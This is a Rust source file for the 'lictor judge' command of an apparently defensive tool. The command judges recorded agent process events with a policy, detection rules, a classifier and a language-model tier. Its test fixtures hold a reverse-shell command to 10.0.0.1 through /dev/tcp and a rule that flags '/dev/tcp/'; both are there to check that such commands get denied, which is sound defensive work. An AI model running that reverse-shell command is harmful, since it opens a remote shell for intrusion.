// SPDX-License-Identifier: Apache-2.0
//! `lictor judge`: what policy and tiers say of recorded events. Touches nothing, needs no daemon.

use std::collections::BTreeMap;
use std::fs::File;
use std::io::{BufReader, Write, stdin};
use std::path::Path;
use std::process::ExitCode;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, bail};
use lictor_api::bytes::printable;
use lictor_api::event::{Action, Event, Kind, Severity, Tier, Verdict};
use lictor_api::log::Lines;
use lictor_api::settings::classifier::Probability;
use lictor_engine::policy::{Agent, PolicyFile, Problem};
use lictor_judge::classifier::Classifier as Model;
use lictor_judge::llm::LlmJudge;
use lictor_judge::rules::{self, Rules};
use lictor_judge::{Case, DefaultAction, Finding, Judge, Judgement, Pipeline};
use serde::Serialize;

use crate::cli::{JudgeArgs, TierArg};
use crate::context::Context;
use crate::output::{self, Cell, count};
use crate::policy::{self, Reference};
use lictord::replay::Replay;

/// Nobody waits for an answer here; this only ends what hangs.
const BUDGET: Duration = Duration::from_secs(60);

/// The tiers that `lictor judge` asks, in their order: the one place where they are made.
fn tiers(args: &JudgeArgs, context: &Context, policy: Option<&PolicyFile>) -> anyhow::Result<Vec<Box<dyn Judge>>> {
    let mut tiers: Vec<Box<dyn Judge>> = Vec::new();
    for tier in [TierArg::Rules, TierArg::Classifier, TierArg::Llm] {
        if !args.tiers.contains(&tier) {
            continue;
        }
        match tier {
            TierArg::Rules => {
                let path = args.rules.as_ref().unwrap_or(&context.settings.rules);
                // Without a word about rules, a host without rules is judged without them.
                let set = if args.rules.is_none() && !path.exists() {
                    eprintln!("lictor: there are no rules in {}: say where they are with --rules", path.display());
                    rules::parse(&[])
                } else {
                    rules::read(path).and_then(|files| rules::parse(&files))
                };
                tiers.push(Box::new(for_agents(set.map_err(first_problems)?, policy, None)));
            }
            TierArg::Classifier => {
                let wanted = &context.settings.judge.classifier;
                let (benign, malicious) = (wanted.benign, wanted.malicious);
                let classifier = Model::load(&wanted.model, wanted.library.as_deref())
                    .and_then(|classifier| {
                        classifier.with_thresholds(benign.map(Probability::get), malicious.map(Probability::get))
                    })
                    .context("the classifier cannot be used")?;
                tiers.push(Box::new(classifier));
            }
            TierArg::Llm => {
                let Some(wanted) = &context.settings.judge.llm else {
                    bail!("no language model is set up: say which with `judge.llm` in lictord.yaml");
                };
                tiers.push(Box::new(LlmJudge::new(wanted, None).context("the language model cannot be used")?));
            }
        }
    }
    Ok(tiers)
}

/// Rules that judge each agent as far as the policy says. An event of no agent is one of the policy's only agent, one of
/// an agent that the policy does not name is judged by all rules; `agent`, where it is given, stands for all of them.
fn for_agents(set: rules::RuleSet, policy: Option<&PolicyFile>, agent: Option<&str>) -> Rules {
    let every: Arc<[String]> = Arc::from(["*".to_owned()]);
    let of = |agent: &Agent| -> Arc<[String]> {
        agent.rules().map_or_else(|| every.clone(), |globs| globs.iter().map(|(glob, _)| glob.clone()).collect())
    };
    let agents: BTreeMap<String, Arc<[String]>> =
        policy.into_iter().flat_map(PolicyFile::agents).map(|agent| (agent.name().to_owned(), of(agent))).collect();
    let fixed = agent.map(str::to_owned);
    let selector = move |event: &Event| {
        let name = fixed.as_ref().or(event.agent.as_ref());
        let only = agents.values().next().filter(|_| agents.len() == 1);
        let found = name.map_or(only, |name| agents.get(name));
        found.unwrap_or(&every).clone()
    };
    let rules = Rules::new(Box::new(selector));
    rules.replace(set);
    rules
}

/// Several problems in one error.
fn first_problems(problems: Vec<Problem>) -> anyhow::Error {
    const SHOWN: usize = 10;
    let mut lines: Vec<String> = problems.iter().take(SHOWN).map(ToString::to_string).collect();
    if problems.len() > SHOWN {
        lines.push(format!("and {} more", problems.len() - SHOWN));
    }
    anyhow::anyhow!("the rules cannot be used: {}", lines.join("; "))
}

pub(crate) fn run(args: &JudgeArgs, context: &Context, out: &mut impl Write) -> anyhow::Result<ExitCode> {
    let policy = match &args.policy {
        Some(file) => match policy::load(file)? {
            Ok(policy) => Some(policy),
            Err(problems) => {
                problems.iter().try_for_each(|problem| writeln!(out, "{problem}"))?;
                return Ok(ExitCode::FAILURE);
            }
        },
        None => None,
    };
    let pipeline = Pipeline::inline(tiers(args, context, policy.as_ref())?, BUDGET, DefaultAction::Allow)?;
    let mut replay = match &policy {
        Some(policy) => Some(Replay::new(policy, None, policy::facts(None, None, None)?)?),
        None => None,
    };
    let mut printer = Printer { json: args.json, events: 0, denied: 0, alerts: 0 };
    let mut damaged = 0u64;
    let name = args.events.clone();
    let input: Box<dyn std::io::BufRead> = if name.as_os_str() == "-" {
        Box::new(stdin().lock())
    } else {
        Box::new(BufReader::new(File::open(&name).with_context(|| format!("{} cannot be read", name.display()))?))
    };
    for entry in Lines::new(name.clone(), input) {
        match entry {
            Ok(entry) => {
                let place = || format!("{}:{}", name.display(), entry.line);
                let judged = judge(&pipeline, replay.as_mut(), entry.event).with_context(place)?;
                printer.print(out, entry.line, &judged)?;
            }
            Err(error) => {
                damaged += 1;
                eprintln!("lictor: {error}");
            }
        }
    }
    out.flush()?;
    let Printer { events, denied, alerts, .. } = printer;
    eprintln!("lictor: {}; {denied} denied, {}", count(events, "event"), count(alerts, "alert"));
    Ok(if damaged == 0 { ExitCode::SUCCESS } else { ExitCode::FAILURE })
}

/// An event and what is said of it.
struct Judged {
    event: Event,
    verdict: Option<Verdict>,
    unjudged: Option<&'static str>,
    findings: Vec<Finding>,
}

/// The policy first: what it denies, no tier is asked about.
fn judge(pipeline: &Pipeline, replay: Option<&mut Replay<'_>>, mut event: Event) -> anyhow::Result<Judged> {
    let unjudged = |event, why| Judged { event, verdict: None, unjudged: Some(why), findings: Vec::new() };
    if event.kind == Kind::Lost {
        return Ok(unjudged(event, "a report about events is not judged"));
    }
    rules::complete(&mut event);
    if let Some(replay) = replay {
        let of_policy = replay.judge(&event)?;
        match of_policy.verdict {
            Some(verdict) if verdict.action != Action::Allow => {
                return Ok(Judged { event, verdict: Some(verdict), unjudged: None, findings: Vec::new() });
            }
            None if event.is_denied() => {
                return Ok(unjudged(event, of_policy.unjudged.unwrap_or("it was denied before any tier")));
            }
            _ => {}
        }
    }
    let judgement: Judgement = pipeline.judge(&Case::new(event.clone()));
    let verdict = judgement.verdict();
    Ok(Judged { event, verdict: Some(verdict), unjudged: None, findings: judgement.findings })
}

/// One event in `--json`.
#[derive(Serialize)]
struct Line<'a> {
    event: Reference<'a>,
    verdict: Option<&'a Verdict>,
    #[serde(skip_serializing_if = "Option::is_none")]
    unjudged: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    classifier: Option<Classifier<'a>>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    findings: Vec<Found<'a>>,
}

#[derive(Serialize)]
struct Classifier<'a> {
    score: f64,
    parts: &'a [(String, f64)],
}

#[derive(Serialize)]
struct Found<'a> {
    tier: Tier,
    rule: &'a str,
    severity: Severity,
    reason: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    source: Option<&'a str>,
    tags: &'a [String],
}

struct Printer {
    json: bool,
    events: u64,
    denied: u64,
    alerts: u64,
}

const HEAD: [&str; 7] = ["EVENT", "VERDICT", "TIER", "RULE", "SCORE", "OBJECT", "PARTS"];
const WIDTHS: [usize; 6] = [26, 7, 10, 32, 5, 40];

impl Printer {
    fn print(&mut self, out: &mut impl Write, line: u64, judged: &Judged) -> anyhow::Result<()> {
        let event = &judged.event;
        let verdict = judged.verdict.as_ref();
        let classifier = judged.findings.iter().find(|finding| finding.tier == Tier::Classifier);
        let score = classifier.and_then(|finding| finding.score);
        self.events += 1;
        match verdict.map(|verdict| verdict.action) {
            Some(Action::Deny | Action::Kill) => self.denied += 1,
            Some(Action::Alert) => self.alerts += 1,
            _ => {}
        }
        if self.json {
            let found = judged.findings.iter().map(|finding| Found {
                tier: finding.tier,
                rule: &finding.rule,
                severity: finding.severity,
                reason: &finding.reason,
                source: finding.source.as_deref(),
                tags: &finding.tags,
            });
            let line = Line {
                event: Reference::of(event, line),
                verdict,
                unjudged: judged.unjudged,
                classifier: classifier
                    .and_then(|finding| finding.score.map(|score| Classifier { score, parts: &finding.parts })),
                findings: found.collect(),
            };
            serde_json::to_writer(&mut *out, &line)?;
            writeln!(out)?;
            return Ok(());
        }
        if self.events == 1 {
            output::row(out, &WIDTHS, &HEAD.map(|text| Cell::styled(text, output::HEAD)))?;
        }
        let style = match verdict.map(|verdict| verdict.action) {
            Some(Action::Deny | Action::Kill) => output::BAD,
            Some(Action::Alert | Action::Hold) => output::WARN,
            _ => output::DIM,
        };
        let parts = classifier.map(|finding| &finding.parts).into_iter().flatten();
        let parts: Vec<String> = parts.map(|(part, weight)| format!("{part} {weight:.2}")).collect();
        let object = event.process.cmdline.clone().filter(|_| event.kind == Kind::Exec);
        output::row(
            out,
            &WIDTHS,
            &[
                Cell::styled(Reference::of(event, line).to_string(), output::DIM),
                Cell::styled(verdict.map_or("-", |verdict| verdict.action.as_str()), style),
                Cell::new(verdict.map_or("-", |verdict| verdict.tier.as_str())),
                Cell::new(verdict.and_then(|verdict| verdict.rule.as_deref()).unwrap_or("-")),
                Cell::new(score.map_or_else(|| "-".to_owned(), |score| format!("{score:.2}"))),
                Cell::new(object.unwrap_or_else(|| event.object())),
                Cell::new(parts.join(", ")),
            ],
        )?;
        Ok(())
    }
}

/// The rules of `--rules` for `lictor policy test`; `agent` judges every event when it is given.
pub(crate) fn load_rules(path: &Path, policy: &PolicyFile, agent: Option<&str>) -> anyhow::Result<Pipeline> {
    let set = rules::read(path).and_then(|files| rules::parse(&files)).map_err(first_problems)?;
    for agent in policy.agents() {
        for (glob, at) in agent.rules().unwrap_or_default() {
            if !set.has(glob) {
                let path = printable(&path.display().to_string());
                bail!("{at}: there is no rule `{}` in {path}", printable(glob));
            }
        }
    }
    let rules: Box<dyn Judge> = Box::new(for_agents(set, Some(policy), agent));
    Ok(Pipeline::inline(vec![rules], BUDGET, DefaultAction::Allow)?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::{Cli, Command};
    use clap::Parser as _;
    use std::fs;

    const RULES: &str = "\
version: 1
rules:
  - { id: tcp, description: d, reason: A shell on the network., severity: critical, kinds: [exec], action: deny, tags: [T1059],
      condition: process.cmdline.contains('/dev/tcp/') }
  - { id: sh, description: a shell, severity: low, kinds: [exec], action: alert, condition: basename(process.exe) == 'sh' }
";
    const POLICY: &str = "version: 1\nagents:\n  a:\n    exec: { deny: [\"/bin/dd\"] }\n    rules: [sh]\n";
    const EVENTS: &str = r#"{"kind":"exec","process":{"args":["sh","-c","sh -i >& /dev/tcp/10.0.0.1/1"]}}
{"id":"B","kind":"exec","agent":"a","process":{"exe":"/bin/sh","args":["sh","-c","sh -i >& /dev/tcp/10.0.0.1/1"]}}
{"id":"C","kind":"exec","agent":"a","process":{"exe":"/bin/dd"},"exec":{"path":"/bin/dd"}}
{"id":"D","kind":"lost","lost":{"count":1,"reason":"full"}}
"#;

    fn run_line(dir: &Path, line: &str) -> (bool, String) {
        for (name, text) in [("r.yaml", RULES), ("p.yaml", POLICY), ("e.jsonl", EVENTS), ("c.yaml", "{}")] {
            fs::write(dir.join(name), text).unwrap();
        }
        let line = format!("lictor judge {line}").replace("DIR", &dir.display().to_string());
        let Command::Judge(args) = Cli::try_parse_from(line.split(' ')).unwrap().command else { panic!("{line}") };
        let context = Context::new(None, Some(dir.join("c.yaml"))).unwrap();
        let mut code = ExitCode::FAILURE;
        let text = output::plain(|out| code = run(&args, &context, out).unwrap());
        (code == ExitCode::SUCCESS, text.replace(&dir.display().to_string(), "DIR"))
    }

    #[test]
    fn each_event_is_judged_by_rules() {
        let dir = tempfile::tempdir().unwrap();
        let (ok, text) = run_line(dir.path(), "--rules DIR/r.yaml --events DIR/e.jsonl");
        assert!(ok);
        let words: Vec<Vec<&str>> = text.lines().map(|line| line.split_whitespace().collect()).collect();
        assert_eq!(words[0], ["EVENT", "VERDICT", "TIER", "RULE", "SCORE", "OBJECT", "PARTS"]);
        assert_eq!(words[1][..7], ["line", "1", "deny", "rules", "tcp", "-", "sh"]);
        assert_eq!(words[3][..4], ["C", "allow", "rules", "-"]);
        assert_eq!(words[4][..3], ["D", "-", "-"]);
        let (_, json) = run_line(dir.path(), "--rules DIR/r.yaml --events DIR/e.jsonl --json");
        let lines: Vec<serde_json::Value> = json.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!((&lines[0]["event"], &lines[1]["event"]), (&1.into(), &"B".into()));
        let verdict = &lines[0]["verdict"];
        assert_eq!(
            (&verdict["action"], &verdict["tier"], &verdict["rule"]),
            (&"deny".into(), &"rules".into(), &"tcp".into())
        );
        assert_eq!((&verdict["source"], &verdict["severity"]), (&"DIR/r.yaml:3:5".into(), &"critical".into()));
        assert_eq!((&verdict["reason"], &verdict["also"][0]), (&"A shell on the network.".into(), &"sh".into()));
        assert!(lines[0].get("classifier").is_none() && lines[3]["verdict"].is_null());
    }

    #[test]
    fn a_policy_comes_first_and_names_the_rules() {
        let dir = tempfile::tempdir().unwrap();
        let (_, json) = run_line(dir.path(), "--policy DIR/p.yaml --rules DIR/r.yaml --events DIR/e.jsonl --json");
        let lines: Vec<serde_json::Value> = json.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        let said: Vec<_> = lines.iter().map(|line| (&line["verdict"]["action"], &line["verdict"]["rule"])).collect();
        assert_eq!(said[1], (&"alert".into(), &"sh".into()), "the policy leaves `tcp` out");
        assert_eq!(said[2], (&"deny".into(), &"a.exec.deny[0]".into()));
        assert_eq!(lines[2]["verdict"]["tier"], "policy");
    }
}
